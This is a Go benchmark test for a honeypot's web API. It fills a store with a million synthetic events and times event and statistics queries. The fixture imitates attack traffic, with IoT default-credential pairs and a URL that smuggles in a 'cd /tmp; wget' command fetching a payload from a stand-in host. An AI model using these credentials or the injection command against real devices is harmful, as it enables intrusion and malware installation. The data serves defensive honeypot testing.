package webapi

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"github.com/minipot/minipot/internal/event"
	"github.com/minipot/minipot/internal/settings"
	"github.com/minipot/minipot/internal/store"
	"github.com/minipot/minipot/internal/uci"
)

// millionEvents writes a million events over the last 30 days (the
// default retention) into a new store: connections from 20000 addresses,
// 500 of them busy, each a connect, logins or a request, and a disconnect.
// It returns the busiest address.
func millionEvents(b *testing.B, path string) string {
	b.Helper()
	st, err := store.Open(path, store.Options{QueueSize: 1 << 16})
	if err != nil {
		b.Fatal(err)
	}
	rng := rand.New(rand.NewPCG(1, 2))
	ips := make([]string, 20000)
	for i := range ips {
		ips[i] = randIP(rng)
	}
	creds := [][2]string{{"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "888888"}, {"support", "support"}, {"user", "user"}}
	urls := []string{"/", "/HNAP1/", "/.env", "/boaform/admin/formLogin", "/shell?cd+/tmp;wget+http://198.51.100.3/jaws"}
	targets := []string{"www.google.com:443", "api.ipify.org:80", "http://azenv.net/"}
	svcs := settings.Services()
	const total = 1000000
	start := time.Now().Add(-30 * 24 * time.Hour)
	step := 30 * 24 * time.Hour / total
	n := 0
	emit := func(e event.Event) {
		for st.Dropped() > 0 {
			b.Fatal("events dropped while generating")
		}
		e.Time = start.Add(time.Duration(n) * step)
		st.Emit(&e)
		n++
		if n%(1<<14) == 0 {
			if err := st.Flush(context.Background()); err != nil {
				b.Fatal(err)
			}
		}
	}
	for conn := int64(1); n < total; conn++ {
		ip := ips[rng.IntN(len(ips))]
		if rng.IntN(100) < 60 {
			ip = ips[rng.IntN(500)]
		}
		svc := svcs[rng.IntN(len(svcs))]
		base := event.Event{Service: svc.Key, Port: svc.Port, SrcIP: ip, SrcPort: 1024 + rng.IntN(60000), ConnID: conn}
		e := base
		e.Action = event.Connect
		emit(e)
		switch svc.Kind {
		case settings.Telnet:
			for range 1 + rng.IntN(3) {
				c := creds[rng.IntN(len(creds))]
				e = base
				e.Action, e.Username, e.Password = event.Login, c[0], c[1]
				emit(e)
			}
		case settings.HTTP:
			e = base
			e.Action, e.Method, e.URL, e.UserAgent = event.Request, "GET", urls[rng.IntN(len(urls))], "Mozilla/5.0 zgrab/0.x"
			emit(e)
		default:
			e = base
			e.Action, e.Method, e.URL = event.Request, "CONNECT", targets[rng.IntN(len(targets))]
			emit(e)
		}
		e = base
		e.Action, e.Duration, e.Reason = event.Disconnect, time.Second, event.ReasonClosed
		emit(e)
	}
	if err := st.Close(); err != nil {
		b.Fatal(err)
	}
	return ips[0]
}

// BenchmarkQueries1M measures event pages and statistics through the API
// (unix socket, handler, JSON) on a store of a million events.
//
//	go test ./webapi -run '^$' -bench Queries1M -benchtime 20x
func BenchmarkQueries1M(b *testing.B) {
	tmp := b.TempDir()
	db := filepath.Join(tmp, "events.db")
	var hot string
	// MINIPOT_BENCH_STORE names a store of these million events to make
	// once and read again: under qemu-user for MIPS, making it takes an
	// hour, and an SQLite file is the same on every architecture.
	if keep := os.Getenv("MINIPOT_BENCH_STORE"); keep != "" {
		db = keep
		if _, err := os.Stat(keep); err != nil {
			millionEvents(b, keep)
		}
		hot = hotSource()
	} else {
		hot = millionEvents(b, db)
	}
	dir := uci.Dir{Path: tmp}
	s := settings.Defaults()
	s.Store.Path = db
	// A million events is beyond the default store.max_size (about 100,000
	// typical ones): unbounded, so the statistics may take what they need.
	s.Store.MaxSize = 0
	if err := settings.Save(dir, s); err != nil {
		b.Fatal(err)
	}
	api := New(Config{Dir: dir, Agent: RunDirAgent{Dir: filepath.Join(tmp, "run")}, StatsDir: tmp, Log: zerolog.Nop()})
	defer api.Close()
	sock := filepath.Join(tmp, "api.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		b.Fatal(err)
	}
	srv := &http.Server{Handler: api.Handler(Access{})}
	go srv.Serve(ln)
	defer srv.Close()
	client := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "unix", sock)
	}}}
	get := func(b *testing.B, path string) {
		resp, err := client.Get("http://localhost" + path)
		if err != nil {
			b.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 {
			b.Fatalf("%s: %d", path, resp.StatusCode)
		}
	}
	// The first statistics request counts the store (seconds); the rest
	// read the summaries.
	t0 := time.Now()
	for {
		// 503 while the count takes longer than a request may wait; each
		// try continues where the previous stopped.
		resp, err := client.Get("http://localhost/api/v1/stats")
		if err != nil {
			b.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode == 200 {
			break
		}
		if resp.StatusCode != 503 {
			b.Fatalf("stats: %d", resp.StatusCode)
		}
	}
	b.Logf("first count of 1M events: %v", time.Since(t0))
	// A cursor 100 pages deep.
	var page EventPage
	path := "/api/v1/events?limit=100"
	for range 100 {
		resp, err := client.Get("http://localhost" + path)
		if err != nil {
			b.Fatal(err)
		}
		if err := decodeJSON(resp.Body, &page); err != nil {
			b.Fatal(err)
		}
		path = page.Next
	}
	for _, c := range []struct{ name, path string }{
		{"events-newest", "/api/v1/events"},
		{"events-page-100-deep", path},
		{"events-service-8123tcp", "/api/v1/events?service=8123tcp"},
		{"events-action-login", "/api/v1/events?action=login"},
		{"events-busy-source", "/api/v1/events?src_ip=" + url.QueryEscape(hot)},
		{"events-one-hour-a-week-ago", "/api/v1/events?since=" + url.QueryEscape(time.Now().Add(-7*24*time.Hour).Format(time.RFC3339)) +
			"&until=" + url.QueryEscape(time.Now().Add(-7*24*time.Hour+time.Hour).Format(time.RFC3339))},
		{"stats-24h", "/api/v1/stats?since=24h"},
		{"stats-7d", "/api/v1/stats?since=7d"},
		{"stats-15d-middle", "/api/v1/stats?since=22d&until=7d"},
		{"stats-everything", "/api/v1/stats"},
	} {
		b.Run(c.name, func(b *testing.B) {
			for b.Loop() {
				get(b, c.path)
			}
		})
	}
}

func randIP(rng *rand.Rand) string {
	return fmt.Sprintf("%d.%d.%d.%d", 1+rng.IntN(223), rng.IntN(256), rng.IntN(256), 1+rng.IntN(254))
}

// hotSource is what millionEvents returns: the first address it draws.
func hotSource() string { return randIP(rand.New(rand.NewPCG(1, 2))) }

func decodeJSON(r io.ReadCloser, v any) error {
	defer r.Close()
	data, err := io.ReadAll(r)
	if err != nil {
		return err
	}
	return json.Unmarshal(data, v)
}
